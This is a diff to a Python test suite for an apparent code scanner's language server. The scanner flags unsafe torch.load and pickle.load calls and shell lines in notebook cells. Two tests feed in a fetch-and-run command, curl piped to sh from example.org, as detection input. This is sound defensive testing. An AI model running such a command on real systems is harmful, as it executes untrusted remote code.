@@ -12,6 +12,7 @@ pytest.importorskip("pygls", reason="needs pip install '.[dev,lsp]'")
 import scanner_core.scan
 from lsp_server.analysis import analyse, places, source_text
 from lsp_server.documents import Document
+from lsp_server.programs import Program
 from lsp_server.settings import Settings
 from scanner_core.findings import Kind, Verdict
 from scanner_core.source import Kept
@@ -23,6 +24,15 @@ if TYPE_CHECKING:
 TEXT = "import torch\ntorch.load('x.pt', weights_only=False)\n"
 
 
+def program(uri: str, version: int, text: str) -> Program:
+    return Program.of(Document(uri, version, text))
+
+
+def notebook(text: str, number: int = 1) -> Program:
+    cell = Document("vscode-notebook-cell:/work/nb.ipynb#W0", 1, text)
+    return Program("file:///work/nb.ipynb", 1, (cell,), (number,))
+
+
 def test_a_failing_rule_is_one_log_line_and_no_end(
     monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
 ) -> None:
@@ -30,7 +40,7 @@ def test_a_failing_rule_is_one_log_line_and_no_end(
         raise KeyError("row")
 
     monkeypatch.setattr(scanner_core.scan, "scan_source", fail)
-    analysis = analyse(Document("untitled:1", 1, TEXT), Settings(), ())
+    analysis = analyse(program("untitled:1", 1, TEXT), Settings(), ())
 
     assert analysis.source is None
     assert analysis.failure == "KeyError: 'row'"
@@ -44,7 +54,7 @@ def test_a_finding_leads_to_what_its_call_loads(
 ) -> None:
     plant(tmp_path / "x.pt")
     uri = (tmp_path / "train.py").as_uri()
-    analysis = analyse(Document(uri, 1, TEXT), Settings(), ())
+    analysis = analyse(program(uri, 1, TEXT), Settings(), ())
 
     assert analysis.source is not None
     [finding] = analysis.source.findings
@@ -60,7 +70,7 @@ def test_what_is_not_on_disk_is_looked_for_in_the_workspace_only(
     plant(here / "x.pt")
     root.mkdir()
     monkeypatch.chdir(here)
-    document = Document("untitled:Untitled-1", 1, TEXT)
+    document = program("untitled:Untitled-1", 1, TEXT)
 
     found = [
         analyse(document, Settings(), roots).report for roots in ((root,), (here,))
@@ -73,7 +83,7 @@ def test_only_the_edited_part_of_a_document_is_parsed_again(
 ) -> None:
     kept, parsed = Kept(), list[str]()
     lines = [*TEXT.split("\n"), "if x:", "    pass", *("y = 1" for _ in range(9))]
-    analyse(Document("untitled:1", 1, "\n".join(lines)), Settings(), (), kept)
+    analyse(program("untitled:1", 1, "\n".join(lines)), Settings(), (), kept)
     original = ast.parse
 
     def note(text: str) -> ast.Module:
@@ -82,7 +92,7 @@ def test_only_the_edited_part_of_a_document_is_parsed_again(
 
     monkeypatch.setattr(ast, "parse", note)
     lines[4:5] = ["    torch.load('y.pt', weights_only=False)", "    pass"]
-    document = Document("untitled:1", 2, "\n".join(lines))
+    document = program("untitled:1", 2, "\n".join(lines))
     analysis = analyse(document, Settings(), (), kept)
 
     assert parsed == ["\n".join(lines[3:6])]
@@ -91,11 +101,11 @@ def test_only_the_edited_part_of_a_document_is_parsed_again(
 
 
 def test_a_cell_is_read_as_part_of_a_notebook() -> None:
-    cell = Document("vscode-notebook-cell:/work/nb.ipynb#W0", 1, "%pip list\n")
+    cell = notebook("%pip list\n")
 
     assert source_text(cell).kind is Kind.NOTEBOOK
     assert source_text(cell).path == "/work/nb.ipynb"
-    assert source_text(Document("untitled:1", 1, "")).path == "<untitled:1>"
+    assert source_text(program("untitled:1", 1, "")).path == "<untitled:1>"
 
 
 @pytest.mark.skipif(os.name == "nt", reason="the paths are those of POSIX")
@@ -126,7 +136,7 @@ def test_the_user_knows_classes_here_as_everywhere(
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
     (tmp_path / "x.pkl").write_bytes(assemble(MINE))
     text = "import pickle\npickle.load(open('x.pkl', 'rb'))\n"
-    document = Document((tmp_path / "train.py").as_uri(), 1, text)
+    document = program((tmp_path / "train.py").as_uri(), 1, text)
     before = analyse(document, Settings(), ())
     (tmp_path / "config" / "gifthorse").mkdir(parents=True)
     config = tmp_path / "config" / "gifthorse" / "config.toml"
@@ -152,7 +162,7 @@ def test_a_workspace_that_is_open_is_not_trusted_for_that(
     (tmp_path / "gifthorse.toml").write_text("known-classes = ['mine.*']\n")
     text = "import pickle\npickle.load(open('x.pkl', 'rb'))\n"
 
-    document = Document((tmp_path / "train.py").as_uri(), 1, text)
+    document = program((tmp_path / "train.py").as_uri(), 1, text)
     analysis = analyse(document, Settings(), [tmp_path])
 
     assert analysis.source
@@ -161,7 +171,7 @@ def test_a_workspace_that_is_open_is_not_trusted_for_that(
 
 def test_shell_lines_of_a_cell_are_judged_where_they_stand() -> None:
     text = "x = 1\nif x:\n    !curl -s https://example.org/i.sh | sh\n"
-    cell = Document("vscode-notebook-cell:/work/nb.ipynb#W0", 1, text)
+    cell = notebook(text)
     analysis = analyse(cell, Settings(), ())
 
     assert analysis.source is not None
@@ -172,7 +182,7 @@ def test_shell_lines_of_a_cell_are_judged_where_they_stand() -> None:
 
 def test_a_module_has_no_shell_lines() -> None:
     text = "!curl -s https://example.org/i.sh | sh\n"
-    analysis = analyse(Document("untitled:1", 1, text), Settings(), ())
+    analysis = analyse(program("untitled:1", 1, text), Settings(), ())
 
     assert analysis.source is not None
     assert not analysis.source.findings
@@ -190,7 +200,7 @@ def test_versions_come_from_the_interpreter_else_from_the_workspace(
     root.mkdir()
     (root / "requirements.txt").write_text("torch==2.5.1\n", encoding="utf-8")
     text = "import torch\ntorch.load(path)\n"
-    document = Document((root / "train.py").as_uri(), 1, text)
+    document = program((root / "train.py").as_uri(), 1, text)
 
     pinned = analyse(document, Settings(), (root,)).source
     installed = analyse(document, Settings(chosen), (root,)).source
@@ -210,7 +220,7 @@ def test_an_ignore_comment_counts_in_the_workspace_only(
     text = f"import torch\ntorch.load(path, weights_only=False)  {comment}\n"
     uri = (tmp_path / "project" / "train.py").as_uri()
 
-    analysis = analyse(Document(uri, 1, text), Settings(), [tmp_path / root])
+    analysis = analyse(program(uri, 1, text), Settings(), [tmp_path / root])
 
     assert analysis.source is not None
     [finding] = analysis.source.findings
